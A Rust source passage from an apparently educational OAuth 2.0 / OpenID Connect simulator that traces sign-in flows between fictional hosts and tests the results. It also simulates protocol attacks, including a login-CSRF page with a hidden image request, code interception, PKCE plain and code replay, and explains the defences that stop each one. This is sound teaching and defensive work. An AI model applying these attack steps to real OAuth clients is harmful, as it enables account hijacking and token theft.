            self.send(RS, from, "403 insufficient_scope", &m, format!("The token is valid but was not granted {API_SCOPE}. The API says which scope it needs, so the client can ask the person for it in a new authorization request."), vec![SpecRef::rfc(6750, "3.1", "Error Codes")]);
            false
        } else {
            let m = Message::response(200, "OK").header("Cache-Control", "no-store").body("application/json", r#"{"photos":[{"id":"p1","title":"Harbour at dawn"},{"id":"p2","title":"Snow on the ridge"}]}"#);
            self.send(RS, from, "200 photos", &m, "Served.".into(), vec![SpecRef::rfc(6750, "2.1", "Authorization Request Header Field")]);
            true
        }
    }

    fn userinfo(&mut self, from: usize, access: &str, user: (&str, &str)) {
        let m = Message::request("GET", "/userinfo").header("Host", AS_HOST).header("Authorization", &format!("Bearer {access}"));
        self.send(from, AS, "GET /userinfo", &m, "With the openid scope, the access token also opens the UserInfo endpoint, which returns the claims the profile and email scopes released (for the code flow they come from here, not in the ID token: OpenID Connect Core section 5.4).".into(), vec![oidc("5.3", "UserInfo", "UserInfo Endpoint")]);
        let scopes = self.s.scopes();
        let mut claims = json!({"sub": user.1});
        if let Some(o) = claims.as_object_mut() {
            if scopes.contains(&"profile") {
                let (name, given, family) = if user.0 == "alice" { ("Alice Martin", "Alice", "Martin") } else { ("Mallory Jones", "Mallory", "Jones") };
                o.insert("name".into(), name.into());
                o.insert("given_name".into(), given.into());
                o.insert("family_name".into(), family.into());
                o.insert("preferred_username".into(), user.0.into());
            }
            if scopes.contains(&"email") {
                o.insert("email".into(), format!("{}@example.com", user.0).into());
                o.insert("email_verified".into(), true.into());
            }
        }
        let m = Message::response(200, "OK").header("Cache-Control", "no-store").body("application/json", claims.to_string());
        self.send(AS, from, "200 claims", &m, "The claims for the scopes granted; sub is the same as in the ID token, which the client must check (section 5.3.2).".into(), vec![oidc("5.3.2", "UserInfoResponse", "Successful UserInfo Response")]);
    }

    /// The client's answer to the browser once signed in.
    fn signed_in(&mut self, browser: usize, user: &'static str) {
        self.signed_in.insert(browser, user);
        self.pending.remove(&browser);
        let to = if self.s.client == ClientKind::Web { BACK } else { FRONT };
        if self.s.client == ClientKind::Web {
            let m = Message::response(302, "Found").header("Location", "/photos").header("Set-Cookie", "sid=b41f…; Path=/; Secure; HttpOnly; SameSite=Lax");
            self.send(to, browser, &format!("302 signed in as {user}"), &m, format!("The client signs the browser in as {user}: a new session id (a new id at sign-in stops session fixation), in a cookie scripts cannot read. The tokens stay on the server."), vec![SpecRef::rfc(6749, "4.1", "Authorization Code Grant")]);
            self.screen(browser, &format!("{APP_HOST}/photos"), "photo-app", vec![format!("Signed in as {user}"), format!("{}'s photos", if user == "alice" { "Alice" } else { "mallory" })], &[], &["Sign out"], false);
        } else {
            self.local(to, &format!("signed in as {user}"), vec![], format!("The app holds the tokens in memory and shows {user}'s photos. A public client keeps tokens where the page's scripts can reach them; RFC 9700 and the browser-app BCP recommend short access tokens and sender-constrained or rotated refresh tokens."), vec![SpecRef::rfc(9700, "2.1", "Protecting Redirect-Based Flows")]);
            self.screen(browser, &format!("{APP_HOST}/callback"), "photo-app", vec![format!("Signed in as {user}"), format!("{}'s photos", if user == "alice" { "Alice" } else { "mallory" })], &[], &["Sign out"], false);
        }
        self.changed();
    }
}

/// `at_hash`/`c_hash`: the left half of the SHA-256 of the ASCII token, base64url (OpenID Connect
/// Core section 3.1.3.6, for RS256 and ES256).
pub fn half_hash(token: &str) -> String {
    let digest = Sha256::digest(token.as_bytes());
    base64url::encode(&digest[..16])
}

/// The lanes of the run.
fn actors(s: &OAuthScenario) -> Vec<Actor> {
    let spa = s.client == ClientKind::Spa;
    let tv = s.flow == Flow::DeviceCode;
    // Short names: up to six lanes share the diagram's width.
    vec![
        Actor { id: "browser".into(), name: "Browser".into(), detail: if tv { "Alice's phone".into() } else { "Alice's".into() } },
        Actor { id: "front".into(), name: if tv { "TV app".into() } else { "App (page)".into() }, detail: if tv { "a device".into() } else if spa { "public client".into() } else { "in the browser".into() } },
        Actor { id: "back".into(), name: "App server".into(), detail: "confidential".into() },
        Actor { id: "as".into(), name: "Auth server".into(), detail: "id.example.com".into() },
        Actor { id: "rs".into(), name: "API".into(), detail: "resource server".into() },
        Actor { id: "attacker".into(), name: "Attacker".into(), detail: "mallory".into() },
    ]
}

/// The run for `s`: its trace.
pub fn run(s: &OAuthScenario) -> Trace {
    run_with_screens(s).trace
}

/// The run for `s`, with the screens people see along it.
pub fn run_with_screens(s: &OAuthScenario) -> OAuthRun {
    let (alg, kid) = match s.id_token_alg {
        IdTokenAlg::RS256 => (Alg::RS256, KID_RS),
        IdTokenAlg::ES256 => (Alg::ES256, KID_ES),
    };
    let title = match s.flow {
        Flow::AuthorizationCode if s.openid() => "OpenID Connect: the authorization code flow",
        Flow::AuthorizationCode => "OAuth 2.0: the authorization code flow",
        Flow::Refresh => "OAuth 2.0: refresh tokens, introspection and revocation",
        Flow::ClientCredentials => "OAuth 2.0: the client credentials grant",
        Flow::DeviceCode => "OAuth 2.0: the device authorization grant",
        Flow::Implicit => "OAuth 2.0: the implicit grant (deprecated)",
        Flow::Password => "OAuth 2.0: the password grant (deprecated)",
    };
    let mut r = Run { s, t: Trace::new("oauth", title, actors(s)), at: 0, rng: SplitMix64::new(s.seed), key: server_key(s.id_token_alg), alg, kid, codes: BTreeMap::new(), revoked: Vec::new(), serial: 0, pending: BTreeMap::new(), signed_in: BTreeMap::new(), last_state: (ActorState { name: String::new(), vars: Vec::new() }, ActorState { name: String::new(), vars: Vec::new() }), refresh: BTreeMap::new(), revoked_families: Vec::new(), access: BTreeMap::new(), screens: Vec::new() };
    let lane = r.client_lane();

    // The client reads the server's metadata and keys (once, and caches them).
    if s.openid() {
        let m = Message::request("GET", "/.well-known/openid-configuration").header("Host", AS_HOST);
        r.send(lane, AS, "GET discovery", &m, "Before any sign-in, the client fetches the server's metadata from a well-known address: its endpoints, what it supports, and where its keys are.".into(), vec![discovery_ref()]);
        let m = Message::response(200, "OK").header("Cache-Control", "max-age=86400").body("application/json", r.discovery().to_string());
        r.send(AS, lane, "200 metadata", &m, "The issuer value here is what every ID token's iss must equal.".into(), vec![discovery_ref(), SpecRef::rfc(8414, "2", "Authorization Server Metadata")]);
        let m = Message::request("GET", "/jwks").header("Host", AS_HOST);
        r.send(lane, AS, "GET /jwks", &m, "The client fetches the server's public keys (JWKS) from jwks_uri.".into(), vec![SpecRef::rfc(7517, "5", "JWK Set Format")]);
        let m = Message::response(200, "OK").header("Cache-Control", "max-age=3600").body("application/json", r.jwks().to_string());
        r.send(AS, lane, "200 JWKS", &m, format!("One public key, {kid}, for {}. Tokens name it in their kid header; when the server rotates keys it publishes the new one here first.", alg.name()), vec![SpecRef::rfc(7517, "5", "JWK Set Format"), oidc("10.1.1", "RotateSigKeys", "Rotation of Asymmetric Signing Keys")]);
    }

    let applies = match s.attack {
        Attack::None => true,
        Attack::RefreshTheft => s.flow == Flow::Refresh,
        _ => matches!(s.flow, Flow::AuthorizationCode | Flow::Refresh),
    };
    if !applies {
        r.t.warnings.push(format!("The attack “{}” does not apply to the {} flow, so this run leaves it out: pick the authorization code flow (or, for a stolen refresh token, the refresh flow).", s.attack.id(), s.flow.id()));
    }
    match s.flow {
        Flow::ClientCredentials => r.client_credentials(),
        Flow::DeviceCode => r.device(),
        Flow::Implicit => r.implicit(),
        Flow::Password => r.password(),
        Flow::AuthorizationCode | Flow::Refresh => return code_flow(r),
    }
    r.finish()
}

/// The authorization code grant (and, for [`Flow::Refresh`], what follows it).
fn code_flow(mut r: Run) -> OAuthRun {
    let s = r.s;
    let lane = r.client_lane();
    // Login CSRF: the attacker first gets a code for their own account.
    let mut forged = None;
    if s.attack == Attack::LoginCsrf {
        let url = r.begin(ATTACKER);
        if let Ok(query) = r.authorize_request(ATTACKER, &url) {
            let location = r.login_and_consent(ATTACKER, MALLORY, &query, true);
            r.local(ATTACKER, "keeps the callback URL", vec![Field { name: "callback".into(), value: location.clone(), bytes: None, note: "with a code for mallory's account".into(), points_to: None }], "The attacker signs in with their own account and stops before following the redirect: the code in this URL is for mallory's account, unredeemed.".into(), vec![SpecRef::rfc(9700, "4.7", "Cross Site Request Forgery")]);
            forged = Some(location);
        }
    }

    if let Some(location) = forged {
        let page = format!("<!doctype html><title>Cute cats</title><img src=\"{location}\" alt=\"\">");
        let m = Message::response(200, "OK").body("text/html; charset=utf-8", page);
        r.send(ATTACKER, BROWSER, "200 page with a hidden request", &m, "Alice visits the attacker's page. It makes her browser request the client's callback with the attacker's code: an image that is not an image.".into(), vec![SpecRef::rfc(9700, "4.7", "Cross Site Request Forgery")]);
        if let Some(code) = r.callback(BROWSER, &location, "Alice's browser requests the callback URL, with her cookie for the client. She started no sign-in.".into()) {
            let verifier = r.pending.get(&BROWSER).and_then(|p| p.verifier.clone());
            let answer = r.token_request(lane, &code, verifier.as_deref(), &s.redirect_uri, true);
            r.token_response(lane, &answer);
            if let TokenAnswer::Tokens { access, id_token, .. } = answer {
                let sub = match id_token {
                    Some(t) => r.validate_id_token(BROWSER, &t, &access),
                    None => Some(MALLORY.1.into()),
                };
                if sub.is_some() {
                    r.signed_in(BROWSER, MALLORY.0);
                    r.t.summary.push("Alice is now signed in to the client as mallory: what she uploads or types there lands in the attacker's account (login CSRF). The client's state parameter (or PKCE) would have refused the code.".into());
                }
            } else {
                r.t.summary.push("The attacker's code was refused at the token endpoint: PKCE bound it to the attacker's own session, and Alice's session has no matching verifier.".into());
            }
        } else {
            r.t.summary.push("The state check refused the attacker's code: Alice's browser did not start this sign-in.".into());
        }
        return r.finish();
    }

    if s.attack == Attack::OpenRedirect {
        r.open_redirect();
        return r.finish();
    }
    if s.attack == Attack::MixUp {
        r.mix_up();
        return r.finish();
    }

    // The victim's sign-in.
    let url = if s.client == ClientKind::Web {
        let m = Message::request("GET", "/login").header("Host", APP_HOST);
        r.send(BROWSER, BACK, "GET /login", &m, "Alice clicks “Sign in with Example ID” on the photo app.".into(), vec![SpecRef::rfc(6749, "4.1", "Authorization Code Grant")]);
        let url = r.begin(BROWSER);
        let m = Message::response(302, "Found").header("Location", &url).header("Set-Cookie", "sid=7c1e…; Path=/; Secure; HttpOnly; SameSite=Lax").header("Cache-Control", "no-store");
        r.send(BACK, BROWSER, "302 to the authorization server", &m, "The client sends the browser to the authorization server with the request in the URL's query.".into(), vec![SpecRef::rfc(6749, "4.1.1", "Authorization Request")]);
        url
    } else {
        r.begin(BROWSER)
    };
    let Ok(query) = r.authorize_request(BROWSER, &url) else {
        r.t.summary.push("The authorization server refused the redirect_uri and showed an error page; no code was sent anywhere.".into());
        return r.finish();
    };
    let location = r.login_and_consent(BROWSER, ALICE, &query, s.consent);
    if !s.consent {
        let _ = r.callback(BROWSER, &location, "The browser follows the redirect back to the client with the error.".into());
        r.t.summary.push("The person denied consent: the client got access_denied and no code.".into());
        return r.finish();
    }
    let code = http::form_value(location.split_once('?').map(|q| q.1).unwrap_or(""), "code").unwrap_or_default();

    // PKCE plain: the attacker sees the request too, so with plain they hold the verifier.
    if s.attack == Attack::PkcePlain {
        let challenge = http::form_value(&query, "code_challenge");
        let method = http::form_value(&query, "code_challenge_method").unwrap_or_else(|| "plain".into());
        r.local(ATTACKER, "sees the request and the redirect", vec![Field { name: "code_challenge".into(), value: challenge.clone().unwrap_or_else(|| "(none)".into()), bytes: None, note: format!("method {method}"), points_to: None }, Field { name: "code".into(), value: code.clone(), bytes: None, note: "read from the redirect".into(), points_to: None }], "A malicious app on Alice's device reads the URLs the device opens (a shared log, an accessibility service), so it sees the authorization request as well as the code.".into(), vec![SpecRef::rfc(7636, "7.2", "Protection against Eavesdroppers")]);
        let guess = challenge.unwrap_or_default();
        let answer = r.token_request(ATTACKER, &code, Some(&guess), &s.redirect_uri, false);
        r.token_response(ATTACKER, &answer);
        if let TokenAnswer::Tokens { access, .. } = &answer {
            let access = access.clone();
            r.api_call(ATTACKER, &access);
            r.t.summary.push("With plain, the challenge in the request is the verifier itself: the attacker who saw the request redeemed the code. RFC 7636 section 7.2: plain protects only against an attacker who sees the response and not the request; use S256.".into());
        } else {
            r.t.summary.push("With S256 the attacker sent the challenge as a verifier, and its hash did not match: a SHA-256 cannot be undone, so seeing the request gave nothing away.".into());
        }
    }

    // Code interception: another app on the device sees the redirect and redeems first.
    if s.attack == Attack::CodeInterception {
        r.local(ATTACKER, "sees the redirect", vec![Field { name: "code".into(), value: code.clone(), bytes: None, note: "read from the redirect".into(), points_to: None }], "A malicious app on Alice's device registered the same redirect address (or a browser extension, a proxy or a log sees the URL), so it receives the code too.".into(), vec![SpecRef::rfc(7636, "1", "Introduction")]);
        let answer = r.token_request(ATTACKER, &code, None, &s.redirect_uri, false);
        r.token_response(ATTACKER, &answer);
        if let TokenAnswer::Tokens { access, .. } = &answer {
            let access = access.clone();
            r.api_call(ATTACKER, &access);
            r.t.summary.push("The attacker redeemed the intercepted code: a public client has no secret, and without PKCE nothing ties the code to the app that asked for it. The attacker reads Alice's photos.".into());
        } else {
            r.t.summary.push("PKCE stopped the interception: the attacker has the code but not the verifier, which never left the app.".into());
        }
    }

    if s.callback_delay_s > 0 {
        r.at += u64::from(s.callback_delay_s) * 1_000_000;
    }
    let Some(code_back) = r.callback(BROWSER, &location, if s.callback_delay_s > 0 { format!("The browser reaches the client's callback {} s after the redirect.", s.callback_delay_s) } else { "The browser follows the redirect to the client's callback.".into() }) else {
        return r.finish();
    };
    let verifier = r.pending.get(&BROWSER).and_then(|p| p.verifier.clone());
    let answer = r.token_request(lane, &code_back, verifier.as_deref(), &s.redirect_uri, true);
    r.token_response(lane, &answer);
    let TokenAnswer::Tokens { access, id_token, refresh } = answer else {
        if s.attack == Attack::CodeInterception {
            r.t.summary.push("The legitimate app's own exchange fails: the code was already used, and the server revoked the tokens it gave the attacker.".into());
        } else {
            r.t.summary.push("The token request was refused, so no one is signed in.".into());
        }
        return r.finish();
    };
    let user = match &id_token {
        Some(t) => r.validate_id_token(BROWSER, t, &access),
        None => Some(ALICE.1.into()),
    };
    if user.is_none() {
        r.t.summary.push("The ID token failed validation: no one is signed in.".into());
        return r.finish();
    }
    if s.openid() {
        r.userinfo(lane, &access, ALICE);
    }
    let served = r.api_call(lane, &access);
    r.signed_in(BROWSER, ALICE.0);

    let total = r.at / 1000;
    r.t.summary.push(format!("Signed in as alice in {:.1} s, of which {} s were Alice typing and reading; {} HTTP messages.", total as f64 / 1000.0, 9, r.t.steps.iter().filter(|s| s.kind == StepKind::Message).count()));
    if !served {
        r.t.summary.push(format!("The API refused the token: it lacks the {API_SCOPE} scope."));
    }

    if matches!(s.attack, Attack::WrongAudience | Attack::IdTokenReplay) {
        r.id_token_injection(id_token.clone());
    }
    if s.attack == Attack::CodeReplay {
        r.local(ATTACKER, "finds the used code", vec![Field { name: "code".into(), value: code.clone(), bytes: None, note: "from the browser's history".into(), points_to: None }], "The callback URL with the code stays in the browser's history and may reach logs or a Referer header. The attacker finds it after the client has used it.".into(), vec![SpecRef::rfc(9700, "4.2", "Credential Leakage via Referer Headers")]);
        let answer = r.token_request(ATTACKER, &code, None, &s.redirect_uri, false);
        r.token_response(ATTACKER, &answer);
        r.wait(1);
        r.api_call(lane, &access);
        r.t.summary.push("The second use of the code was refused, and the server revoked the token issued for it. The API, which checks JWTs locally, keeps accepting that token until it expires: revocation reaches it only through introspection, or by keeping tokens short.".into());
    }
    if let (Flow::Refresh, Some(rt)) = (s.flow, refresh) {
        r.refresh_story(access, rt);
    }
    r.finish()
}

impl Run<'_> {
    /// The trace, without the lanes no step used (a web app's page in the browser does nothing
    /// the browser does not; a single-page app has no back end; most runs have no attacker).
    fn finish(self) -> OAuthRun {
        let screens = self.screens;
        let mut t = self.t;
        let used: Vec<bool> = (0..t.actors.len()).map(|a| a == BROWSER || a == AS || t.steps.iter().any(|s| s.from == a || s.to == a)).collect();
        let mut map = vec![0; t.actors.len()];
        let mut next = 0;
        for (a, keep) in used.iter().enumerate() {
            map[a] = next;
            next += usize::from(*keep);
        }
        let mut keep = used.iter();
        t.actors.retain(|_| *keep.next().unwrap_or(&true));
        for s in &mut t.steps {
            s.from = map[s.from];
            s.to = map[s.to];
            s.states.retain(|c| used[c.actor]);
            for c in &mut s.states {
                c.actor = map[c.actor];
            }
        }
        OAuthRun { trace: t, screens }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oauth::scenario::presets;

    fn preset(id: &str) -> Trace {
        run(&presets().into_iter().find(|p| p.0 == id).unwrap().2)
    }

    fn labels(t: &Trace) -> Vec<&str> {
        t.steps.iter().map(|s| s.label.as_str()).collect()
    }

    #[test]
    fn the_default_flow_signs_alice_in_with_a_valid_id_token() {
        let t = preset("code-oidc");
        let l = labels(&t);
        for want in ["GET discovery", "GET /authorize", "200 login page", "302 back with a code", "state matches", "POST /token", "code redeemed", "200 tokens", "ID token valid", "200 claims", "200 photos", "302 signed in as alice"] {
            assert!(l.contains(&want), "{want}: {l:?}");
        }
        // Every message is an HTTP/1.1 message.
        for s in t.steps.iter().filter(|s| s.kind == StepKind::Message) {
            assert!(s.bytes.starts_with(b"HTTP/1.1 ") || s.bytes.windows(9).any(|w| w == b" HTTP/1.1"), "{}", s.label);
        }
    }

    #[test]
    fn the_attacks_end_as_the_defences_say() {
        assert!(labels(&preset("login-csrf")).contains(&"302 signed in as mallory"));
        assert!(labels(&preset("login-csrf-state")).contains(&"state mismatch: refused"));
        let t = preset("code-interception");
        assert!(labels(&t).contains(&"200 photos"));
        assert!(labels(&t).contains(&"refused: invalid_grant"));
        let t = preset("code-interception-pkce");
        assert_eq!(labels(&t).iter().filter(|l| **l == "refused: invalid_grant").count(), 1);
        assert!(labels(&t).contains(&"signed in as alice"));
        let t = preset("code-replay");
        assert!(t.steps.iter().any(|s| s.label == "refused: invalid_grant" && s.explanation.contains("revokes the 1 token")));
        assert!(labels(&preset("redirect-mismatch")).contains(&"400 error page (no redirect)"));
        assert!(labels(&preset("redirect-prefix")).contains(&"302 signed in as alice"));
        assert!(labels(&preset("wrong-secret")).contains(&"401 invalid_client"));
        assert!(labels(&preset("consent-denied")).contains(&"sign-in cancelled"));
        assert!(labels(&preset("insufficient-scope")).contains(&"403 insufficient_scope"));
        assert!(!labels(&preset("oauth-only")).contains(&"ID token valid"));
    }

    #[test]
    fn the_screens_show_what_each_person_sees() {
        let s = presets().into_iter().find(|p| p.0 == "code-oidc").unwrap().2;
        let r = run_with_screens(&s);
        let consent = r.trace.steps.iter().position(|st| st.label == "200 consent page").unwrap();
        let shown = r.screen_at(consent).unwrap();
        assert_eq!((shown.whose.as_str(), shown.title.as_str()), ("Alice's browser", "photo-app wants to:"));
        assert!(shown.lines.contains(&"See your photos".to_string()));
        assert_eq!(shown.buttons, ["Allow", "Deny"]);
        assert_eq!(r.screen_at(r.trace.steps.len() - 1).unwrap().lines[0], "Signed in as alice");
        assert!(r.screen_at(0).is_none());
        let d = run_with_screens(&presets().into_iter().find(|p| p.0 == "device-code").unwrap().2);
        let tv = d.screens.iter().find(|(_, sc)| sc.whose == "the TV").unwrap();
        assert!(tv.1.lines[1].starts_with("and enter "), "{:?}", tv.1);
        assert!(run_with_screens(&presets().into_iter().find(|p| p.0 == "redirect-mismatch").unwrap().2).screens.iter().any(|(_, sc)| sc.error));
    }

    #[test]
    fn runs_are_deterministic_and_es256_verifies_too() {
        let s = OAuthScenario { id_token_alg: IdTokenAlg::ES256, client_auth: ClientAuth::PrivateKeyJwt, ..OAuthScenario::default() };
        let a = run(&s);
        assert_eq!(a, run(&s));
        assert!(labels(&a).contains(&"ID token valid"), "{:?}", labels(&a));
        let wrong = run(&OAuthScenario { wrong_secret: true, ..s });
        assert!(labels(&wrong).contains(&"401 invalid_client"));
    }
}
